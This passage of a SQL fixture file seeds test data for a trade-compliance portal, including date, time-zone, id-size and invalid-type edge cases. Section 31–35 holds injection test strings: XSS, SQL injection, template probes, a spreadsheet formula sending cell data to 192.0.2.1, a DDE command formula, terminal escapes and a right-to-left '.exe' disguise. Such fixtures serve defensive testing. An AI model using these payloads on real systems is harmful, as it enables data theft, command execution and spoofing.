  (2813, NULL, 2801, 'SCAC', 'ZOOB', 'Y', NULL, NULL), (2814, NULL, 2897, 'IOR', '28-0000014', 'Y', NULL, NULL);

-- 29. Ledger Imports, 30. Tie Trading: importers for the Trade Compliance accounts of tc.sql ---------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES
  (29, 'Ledger Imports', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N'), (30, 'Tie Trading', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO company_contact VALUES
  (2901, 29, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Lou', 'Ledger', 'lou@ledger.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00'),
  (3001, 30, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Ty', 'Tie', 'ty@tie.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00');
INSERT INTO security_model VALUES
  (2901, 29, 'Ledger 1', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'), (2902, 29, 'Ledger 2', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'),
  (3001, 30, 'Tie 1', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'), (3002, 30, 'Tie 2', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (2901, 2901, 'IMP', '10002901', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (2902, 2902, 'IMP', '10002902', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (3001, 3001, 'IMP', '10003001', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (3002, 3002, 'IMP', '10003002', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES
  (2901, NULL, 2901, 'IOR', '29-0000001', 'Y', NULL, NULL), (2902, NULL, 2902, 'IOR', '29-0000002', 'Y', NULL, NULL), (2903, 29, NULL, 'BOND', 'B-29', 'Y', NULL, NULL),
  (3001, NULL, 3001, 'IOR', '30-0000001', 'Y', NULL, NULL), (3002, NULL, 3002, 'IOR', '30-0000002', 'Y', NULL, NULL), (3003, 30, NULL, 'BOND', 'B-30', 'Y', NULL, NULL),
  (3004, NULL, 3001, 'IOR', '30-0000004', 'N', NULL, NULL);

-- 31, 32, 33, 35. names with commands, markup and misleading characters ------------------------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, dba_name, website, company_history, created_at, modified_at, deleted_ind) VALUES
  (31, '<script>alert("31")</script>', '&lt;b&gt;', 'javascript:alert(31)', '</pre><!-- ]]> {{ 7*7 }} ${7*7} %s %(x)s {0}', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N'),
  (32, '=HYPERLINK("http://192.0.2.1/?"&A1,"32")', '@SUM(1+1)*cmd|'' /C calc''!A0', '-2+3', '+1' || char(9) || '=1+1', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N'),
  (33, 'Red' || char(27) || '[31m Alert' || char(27) || '[0m' || char(7), char(27) || ']0;title' || char(7), char(13) || 'overwritten', char(155) || '2J' || char(8), '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N'),
  (35, '[bold red]Markup[/] [link=http://192.0.2.1]35[/link]', 'gnp' || char(8238) || '.exe' || char(8236), char(8203) || char(173), '*_`~|#<>[](!) :smile: \n', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO company_contact (contact_id, company_profile_id, contact_type_cd, primary_poc_ind, admin_ind, ctpat_mail_ind, first_name, last_name, email, added_at, modified_at) VALUES
  (3101, 31, 'OFFICER', 'Y', 'N', 'Y', 'Robert''); DROP TABLE', 'login;--', 'bobby@tables.example', '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (3201, 32, 'OFFICER', 'Y', 'N', 'Y', '=1+1', '@x', 'for@mula.example', '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (3301, 33, 'OFFICER', 'Y', 'N', 'Y', char(27) || '[5m', char(0x9B) || '1m', 'an@si.example', '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (3501, 35, 'OFFICER', 'Y', 'N', 'Y', '', 'NULL', 'nu@ll.example', '2012-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO security_model VALUES
  (3101, 31, '<b>3101</b>', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'), (3201, 32, '=3201', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'),
  (3301, 33, char(27) || '[3301m', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'), (3501, 35, '', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (3101, 3101, '3PL', '<i>3101</i>', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (3201, 3201, '3PL', '=3201', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (3301, 3301, '3PL', char(27) || '[3301m', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (3501, 3501, '3PL', '[red]3501[/red]', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00');

-- 34. Clockwork Carriers: events in New York local time, which skips an hour in spring and repeats one in autumn ---------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (34, 'Clockwork Carriers', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO company_contact VALUES
  (3401, 34, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Tick', 'Tock', 'tick@clockwork.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00');
INSERT INTO security_model VALUES (3401, 34, 'Clock', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (3401, 3401, 'MLH', '10003401', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO entity_identifier VALUES (3401, 34, NULL, 'SCT', 'SCT-34', 'Y', NULL, NULL);
INSERT INTO event_history VALUES
  (3401, 34, 3401, 'LOGIN', NULL, 'tick', '2022-07-04 12:00:00'), (3402, 34, 3401, 'LOGIN', NULL, 'tick', '2022-01-04 12:00:00'),
  (3403, 34, 3401, 'LOGIN', NULL, 'tick', '2022-11-06 01:30:00'), (3404, 34, 3401, 'LOGIN', NULL, 'tick', '2023-03-12 02:30:00'),      -- repeated; skipped
  (3405, 34, 3401, 'LOGIN', NULL, 'tick', '2022-11-06 02:00:00'), (3406, 34, 3401, 'LOGIN', NULL, 'tick', '2023-03-12 03:00:00'),      -- directly after both
  (3407, 34, 3401, 'LOGIN', NULL, 'tick', 'yesterday'), (3408, 34, 3401, 'LOGIN', NULL, 'tick', NULL), (3409, 34, 3401, 'LOGIN', NULL, 'tick', '2023-02-29 10:00:00'),
  (3410, 34, 3401, 'LOGIN', NULL, 'tick', '2023-1-1 00:00:00'), (3411, 34, 3401, 'LOGIN', NULL, 'tick', '2023-01-01 24:00:00'), (3412, 34, 3401, 'LOGIN', NULL, 'tick', ' 2023-01-01 00:00:00'),
  (3413, 34, 3401, 'LOGIN', NULL, 'tick', '2023-01-0' || char(1633) || ' 00:00:00'), (3414, 34, 3401, 'LOGIN', NULL, 'tick', '2023-01-01T00:00:00'), (3415, 34, NULL, 'LOGIN', '', '', ''),
  (3416, 34, 3401, 'LOGIN', NULL, 'tick', '2006-04-02 02:30:00'), (3417, 34, 3401, 'LOGIN', NULL, 'tick', '2006-10-29 01:00:00'), (3418, 34, 3401, 'LOGIN', NULL, 'tick', '2023-01-01 23:59:60');

-- 36 and 37 have unusual ids: beyond 53 bits, and negative ------------------------------------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES
  (9007199254740993, 'Beyond Two To The 53', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N'), (-37, 'Below Zero Cold Storage', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO company_contact (contact_id, company_profile_id, contact_type_cd, primary_poc_ind, admin_ind, ctpat_mail_ind, email, added_at, modified_at) VALUES
  (9007199254740993, 9007199254740993, 'OFFICER', 'Y', 'N', 'Y', 'big@number.example', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (-3701, -37, 'OFFICER', 'Y', 'N', 'Y', 'cold@storage.example', '2012-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO security_model VALUES
  (9007199254740992, 9007199254740993, 'Even', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'),
  (9007199254740993, 9007199254740993, 'Odd', 'SPLIT', 9007199254740993, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'),
  (-3701, -37, 'Minus', 'APPLICATION', -1, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (9007199254740992, 9007199254740992, '3PL', NULL, 'APPLICANT', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (9007199254740993, 9007199254740993, '3PL', NULL, 'APPLICANT', '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (-3701, -3701, '3PL', NULL, 'APPLICANT', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (0, -3701, '3PL', NULL, 'APPLICANT', '2012-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO event_history VALUES (9223372036854775807, 9007199254740993, 9007199254740993, 'CREATED', NULL, NULL, '2012-01-01 00:00:00'), (-9223372036854775808, -37, 0, 'CREATED', NULL, NULL, '2012-01-01 00:00:00');
INSERT INTO highway_crossing VALUES (9007199254740993, '1|2'), (9007199254740992, '1|2'), (-3701, '|');

-- 38. Unreadable Values: values that SQLite accepts although the column's type does not allow them --------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, business_start_dt, created_at, modified_at, deleted_ind) VALUES
  (38, 'Unreadable Values', '2023-02-30', '2012-01-01T00:00:00Z', '2020-01-01 00:00:00.5', 'N');
INSERT INTO company_contact (contact_id, company_profile_id, contact_type_cd, primary_poc_ind, admin_ind, ctpat_mail_ind, email, phone, added_at, removed_at, modified_at) VALUES
  (3801, 38, 'OFFICER', 'Y', 'N', 'Y', 'una@readable.example', NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00'),
  (3802, 38, 'EMPLOYEE', 'N', 'N', 'N', NULL, 'a phone number that is longer than the forty characters it may have', '2012-01-01 00:00:00', 'never', '2020-01-01 00:00:00');
INSERT INTO security_model VALUES
  (3801, 38, 'Readable', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'), (3803, 38, 'Its only entity cannot be read', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'),
  (3806, 38, 'Its origin cannot be read', 'SPLIT', 'model 3801', '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'), (3807, 38, 'Its date cannot be read', 'SPLIT', NULL, '2012-01-01', 'N', '2012-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, tier_cd, anniversary_dt, scss_cbp_user_id, created_at, modified_at) VALUES
  (3801, 3801, '3PL', '10003801', 'CERTIFIED', '2', '', 1, '2012-01-01 00:00:00', '2020-01-01 00:00:00'),           -- '' is not a valid date
  (3802, 3801, '3PL', '10003802', 'CERTIFIED', '12', NULL, 1, '2012-01-01 00:00:00', '2020-01-01 00:00:00'),        -- two characters in CHAR(1)
  (3803, 3803, '3PL', '10003803', 'CERTIFIED', '2', NULL, 1, 'long ago', '2020-01-01 00:00:00'),                    -- mandatory
  (3804, 'abc', '3PL', '10003804', 'CERTIFIED', '2', NULL, 1, '2012-01-01 00:00:00', '2020-01-01 00:00:00'),        -- a reference
  (3805, 3801, '3PL', '10003805', 'CERTIFIED', '2', NULL, 1.5, '2012-01-01 00:00:00', '2020-01-01 00:00:00'),       -- a soft reference
  (3806, 3806, '3PL', '10003806', 'CERTIFIED', '2', '2020-02-29 00:00:00', 1, '2012-01-01 00:00:00', '2020-01-01 00:00:00.123456+00:00'),
  (3807, 3807, '3PL', '10003807', 'CERTIFIED', '2', NULL, 1, '2012-01-01 00:00:00', '2020-01-01 00:00:00');         -- its model is held
INSERT INTO company_address (address_id, company_profile_id, address_type_cd, postal_code, mailing_ind, primary_ind, modified_at) VALUES
  ('abc', 38, 'HEADQUARTERS', NULL, 'Y', 'Y', '2012-01-01 00:00:00'), (X'616263', 38, 'WAREHOUSE', NULL, 'N', 'N', '2012-01-01 00:00:00'),
  (3801, 38, 'MAILING', 'a postal code of 32 characters..', 'N', 'N', '2012-01-01 00:00:00');
INSERT INTO portal_task VALUES (NULL, 38, NULL, 'LOST_KEY', '2023-09-20', NULL), (NULL, 38, NULL, 'LOST_KEY', '2023-09-21', NULL);
INSERT INTO portal_task VALUES (3801, 38, NULL, 'BLOB_DUE', X'323032332D30392D3230', NULL);                            -- the bytes of 2023-09-20 are not a valid date
INSERT INTO highway_crossing VALUES (3801, NULL), (3801, CAST(X'30FE' AS TEXT)), (3801, CAST(X'30FF' AS TEXT));      -- both become 0 and U+FFFD
INSERT INTO security_profile (security_profile_id, security_model_id, criteria_version_id, profile_year, status_cd, due_dt, current_ind) VALUES
  (3801, 3801, 3, 2023.5, 'APPROVED', NULL, 'Y'), (3802, 3801, 3, 99999999999, 'APPROVED', NULL, 'Y'), (3803, 3801, 3, 2023, 'APPROVED', '2023-09-31', 'Y'), (3804, 3801, 3, 2022, 'APPROVED', 20220901, 'N');
INSERT INTO profile_response (response_id, security_profile_id, question_id, response_text, completion_cd, modified_at) VALUES
  (3801, 3801, 101, 'Below a security profile that is held.', 'COMPLETE', '2023-01-01 00:00:00'), (3802, 3803, 101, 'A day is no moment.', 'COMPLETE', '2023-01-01');
INSERT INTO message_thread VALUES (3801, 38, NULL, 'Seven digits', '2020-01-01 00:00:00');
INSERT INTO message VALUES (3801, 3801, NULL, 1, 'Seven digits behind the point.', '2020-01-01 00:00:00.1234567'), (3802, 3801, NULL, 1, 'Six of them.', '2020-01-01 00:00:00.123456');
INSERT INTO validation (validation_id, company_profile_id, validation_type_cd, status_cd, closed_dt, approved_at) VALUES (3.5, 38, 'INITIAL', 'OPEN', NULL, NULL), (3801, 38, 'INITIAL', 'OPEN', '31.12.2020', 1577836800);
INSERT INTO profile_question VALUES (9102, 3, 99999999999, '9.1', 1, 'Its category is no integer of 32 bits.');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, created_at, modified_at) VALUES
  (3801, replace(hex(zeroblob(100)), '0', 'ß') || '@unreadable.example', 'x', 'Gross', 'Growing', 'ACTIVE', '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (3802, CAST(X'FF40756E7265616461626C652E6578616D706C65' AS TEXT), 'x', 'Bad', 'Byte', 'ACTIVE', '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (3803, CAST(X'FE40756E7265616461626C652E6578616D706C65' AS TEXT), 'x', 'Bad', 'Byte', 'ACTIVE', '2012-01-01 00:00:00', '2020-01-01 00:00:00');    -- one login: equal after the repair
INSERT INTO company_contact (contact_id, company_profile_id, user_id, contact_type_cd, primary_poc_ind, admin_ind, ctpat_mail_ind, added_at, modified_at) VALUES
  (3803, 38, 3802, 'EMPLOYEE', 'N', 'N', 'N', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (3804, 38, 3803, 'EMPLOYEE', 'N', 'N', 'N', '2012-01-01 00:00:00', '2020-01-01 00:00:00');

-- 39. the company whose name is too long: held with its dependents -------------------------------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (39, replace(hex(zeroblob(100)), '0', 'x') || 'y', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO security_model VALUES (3901, 39, 'Below a name that is too long', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (3901, 3901, '3PL', '10003901', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00');

-- 40. Unreachable Air: a primary contact without login and without a valid address ---------------------------------------------------------------------------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES (40, 'Unreachable Air', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO company_contact VALUES
  (4001, 40, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Al', 'Oof', 'ask at the desk', NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00');
INSERT INTO security_model VALUES (4001, 40, 'Air', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, scss_cbp_user_id, created_at, modified_at) VALUES
  (4001, 4001, 'AIR', '10004001', 'CERTIFIED', 77, '2012-01-01 00:00:00', '2020-01-01 00:00:00');                     -- specialist 77 does not exist
INSERT INTO entity_identifier VALUES (4001, 40, NULL, 'IATA', '40-1', 'Y', NULL, NULL);

-- 41. its name equals that of profile 4, which is held: only this one is flagged. Its organisation does not exist ---------------------------------------------
INSERT INTO company_profile (company_profile_id, trade_org_id, company_name, created_at, modified_at, deleted_ind) VALUES (41, 99, 'EMPTY SHELL HOLDINGS ', '2020-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO company_contact VALUES
  (4101, 41, NULL, 'OFFICER', 'Y', 'N', 'Y', 'Sue', 'Cessor', 'sue@successor.example', NULL, NULL, '2020-01-01 00:00:00', NULL, '2020-01-01 00:00:00');
INSERT INTO security_model VALUES (4101, 41, 'Successor', 'APPLICATION', NULL, '2020-01-01 00:00:00', 'N', '2020-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (4101, 4101, '3PL', '10004101', 'APPROVED', '2020-01-01 00:00:00', '2020-01-01 00:00:00');

-- 42 to 46. who can sign: an officer who was idle, one who is disabled, one who is locked for the company's status, one who has left; and a shared desk ----------
INSERT INTO company_profile (company_profile_id, company_name, created_at, modified_at, deleted_ind) VALUES
  (42, 'Signet Freight', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N'), (43, 'Sealed Lips Cargo', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N'),
  (44, 'Halfway Haulage', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N'), (45, 'Gone Home Cargo', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N'),
  (46, 'Shared Desk Imports', '2012-01-01 00:00:00', '2020-01-01 00:00:00', 'N');
INSERT INTO portal_user (user_id, user_name, password_hash, first_name, last_name, user_status_cd, lock_reason_cd, created_at, modified_at) VALUES
  (4201, 'sig@signet.example', 'x', 'Sig', 'Net', 'LOCKED', 'IDLE', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (4202, 'guest@signet.example', 'x', 'Guest', 'Pen', 'ACTIVE', NULL, '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (4203, 'both@signet.example', 'x', 'Both', 'Hats', 'ACTIVE', NULL, '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (4301, 'lip@sealed.example', 'x', 'Lip', 'Seal', 'DISABLED', NULL, '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (4401, 'half@halfway.example', 'x', 'Half', 'Way', 'LOCKED', 'COMPANY_STATUS', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (4402, 'pass@halfway.example', 'x', 'Pass', 'Word', 'LOCKED', 'PASSWORD', '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (4601, 'desk@shared.example', 'x', 'Ann', 'Desk', 'ACTIVE', NULL, '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (4602, 'DESK@shared.example', 'x', 'Ben', 'Desk', 'ACTIVE', NULL, '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (4603, 'desk@SHARED.example', 'x', 'Cat', 'Desk', 'ACTIVE', NULL, '2012-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO company_contact VALUES
  (4201, 42, 4201, 'OFFICER', 'Y', 'Y', 'Y', 'Sig', 'Net', 'sig@signet.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00'),
  (4202, 42, 4202, 'CONSULTANT', 'N', 'N', 'N', 'Guest', 'Pen', NULL, NULL, NULL, '2012-01-01 00:00:00', '2019-01-01 00:00:00', '2020-01-01 00:00:00'),
  (4203, 42, 4203, 'CONSULTANT', 'N', 'N', 'N', 'Both', 'Hats', NULL, NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00'),
  (4204, 42, 4203, 'OFFICER', 'N', 'N', 'N', 'Both', 'Hats', NULL, NULL, NULL, '2012-01-01 00:00:00', '2019-01-01 00:00:00', '2020-01-01 00:00:00'),
  (4301, 43, 4301, 'OFFICER', 'Y', 'Y', 'Y', 'Lip', 'Seal', 'lip@sealed.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00'),
  (4401, 44, 4401, 'OFFICER', 'Y', 'Y', 'Y', 'Half', 'Way', 'half@halfway.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00'),
  (4402, 45, 4402, 'OFFICER', 'Y', 'Y', 'Y', 'Pass', 'Word', 'pass@halfway.example', NULL, NULL, '2012-01-01 00:00:00', '2019-01-01 00:00:00', '2020-01-01 00:00:00'),
  (4601, 46, 4601, 'OFFICER', 'Y', 'Y', 'Y', 'Ann', 'Desk', 'desk@shared.example', NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00'),
  (4602, 46, 4602, 'EMPLOYEE', 'N', 'N', 'N', 'Ben', 'Desk', NULL, NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00'),
  (4603, 43, 4602, 'EMPLOYEE', 'N', 'N', 'N', 'Ben', 'Desk', NULL, NULL, NULL, '2012-01-01 00:00:00', NULL, '2020-01-01 00:00:00'),
  (4604, 43, 4603, 'EMPLOYEE', 'N', 'N', 'N', 'Cat', 'Desk', NULL, NULL, NULL, '2012-01-01 00:00:00', '2019-01-01 00:00:00', '2020-01-01 00:00:00');
INSERT INTO security_model VALUES
  (4201, 42, 'Signet', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'), (4301, 43, 'Sealed', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'),
  (4401, 44, 'Halfway', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'), (4501, 45, 'Gone', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00'),
  (4601, 46, 'Desk', 'APPLICATION', NULL, '2012-01-01 00:00:00', 'N', '2012-01-01 00:00:00');
INSERT INTO model_entity (entity_id, security_model_id, business_type_cd, account_number, status_cd, created_at, modified_at) VALUES
  (4201, 4201, 'MLH', '10004201', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (4202, 4201, '3PL', '10004202', 'CERTIFIED', '2015-01-01 00:00:00', '2020-01-01 00:00:00'),
  (4301, 4301, '3PL', '10004301', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (4401, 4401, '3PL', '10004401', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (4402, 4401, '3PL', '10004402', 'SUSPENDED', '2012-01-01 00:00:00', '2020-01-01 00:00:00'), (4501, 4501, '3PL', '10004501', 'WITHDRAWN', '2012-01-01 00:00:00', '2020-01-01 00:00:00'),
  (4601, 4601, '3PL', '10004601', 'CERTIFIED', '2012-01-01 00:00:00', '2020-01-01 00:00:00');
-- numbers of a person; and one number on two companies
INSERT INTO entity_identifier VALUES
  (4201, NULL, 4201, 'SCT', 'SCT-42', 'Y', NULL, NULL), (4202, NULL, 4201, 'RFC', ' gode561231gr8 ', 'Y', NULL, NULL), (4203, NULL, 4201, 'RFC', 'ABC561231GR8', 'Y', NULL, NULL),
  (4204, NULL, 4201, 'MID', 'GODE561231GR9', 'Y', NULL, NULL), (4205, NULL, 4202, 'EIN', '219-09-9999', 'Y', NULL, NULL),
  (4206, NULL, 4201, 'DUNS', '42-000-0006', 'Y', NULL, NULL), (4301, NULL, 4301, 'DUNS', '420000006', 'Y', NULL, NULL), (4401, 44, NULL, 'DUNS', '42 0000006', 'N', NULL, NULL),
  (4207, NULL, 4201, 'FMC', '4207', 'Y', NULL, NULL), (4208, NULL, 4202, 'FMC', '4207', 'Y', NULL, NULL), (4302, NULL, 4301, 'RFC', 'ABC561231GR8', 'Y', NULL, NULL);
-- who submitted: only an officer may
INSERT INTO security_profile (security_profile_id, security_model_id, criteria_version_id, profile_year, status_cd, submitted_at, submitted_by_user_id, current_ind) VALUES
  (4201, 4201, 3, 2023, 'PENDING_REVIEW', '2023-05-01 00:00:00', 4202, 'Y'), (4202, 4201, 3, 2022, 'APPROVED', '2022-05-01 00:00:00', 4203, 'N'),
  (4203, 4301, 3, 2022, 'APPROVED', '2022-05-01 00:00:00', 4202, 'N'), (4204, 4201, 9, 2021, 'APPROVED', NULL, NULL, 'N');
INSERT INTO profile_response (response_id, security_profile_id, question_id, response_text, completion_cd, modified_at) VALUES
  (4201, 4201, 9103, 'To a question whose catalogue row is held.', 'COMPLETE', '2023-05-01 00:00:00');
-- catalogue rows that are held count as missing
INSERT INTO criteria_version VALUES (9, 'A version without a day', 'soon');
INSERT INTO profile_question VALUES (9103, 'soon', 1, '9.1', 1, 'Its version is no number.');
INSERT INTO question_applicability VALUES (9103, 'IMP', 'MUST');
-- which company monitors which, model by model; and who wants no more requests
INSERT INTO svi_setting VALUES (42, NULL, 'N', 'Y'), (43, NULL, 'N', 'y'), (44, NULL, 'N', NULL);
INSERT INTO svi_link VALUES
  (4201, 42, 4201, NULL, 26, 2601, NULL, 'SENT', '2014-01-01 00:00:00', 4201, NULL, NULL, 'Y'),
  (4202, 26, 2601, NULL, 699, 4201, NULL, 'SENT', '2014-01-01 00:00:00', 2601, NULL, NULL, 'y'),          -- 4202 was created in 2015; profile 699 does not exist
  (4203, 42, 4299, 4201, 26, NULL, 2601, 'SENT', '2014-01-01 00:00:00', 4201, NULL, NULL, NULL),          -- the entity decides; model 4299 does not exist
  (4204, 42, 4299, NULL, 26, NULL, 2601, 'SENT', '2014-01-01 00:00:00', 4201, NULL, NULL, NULL),
  (4205, 42, NULL, 4201, 5, 502, NULL, 'SENT', '2014-01-01 00:00:00', 4201, NULL, NULL, NULL),            -- model 502 is held
  (4206, 44, 4401, NULL, 44, 4401, NULL, 'SENT', '2014-01-01 00:00:00', NULL, NULL, NULL, NULL);          -- a model watches itself: its accounts each other
INSERT INTO event_history VALUES
  (4201, 42, 4201, 'LOGIN', NULL, 'sig', '9999-12-31 18:59:59'), (4202, 42, 4201, 'LOGIN', NULL, 'sig', '9999-12-31 19:00:00');
